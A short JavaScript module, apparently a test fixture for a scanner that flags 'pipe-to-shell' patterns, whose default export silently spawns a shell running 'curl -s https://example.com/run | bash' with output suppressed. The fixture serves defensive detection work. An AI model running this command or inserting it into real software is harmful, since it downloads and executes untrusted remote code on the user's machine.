// expect: pipe-to-shell
import { spawn } from "node:child_process";

export default () => {
  spawn("curl -s https://example.com/run | bash", { shell: true, stdio: "ignore" });
};
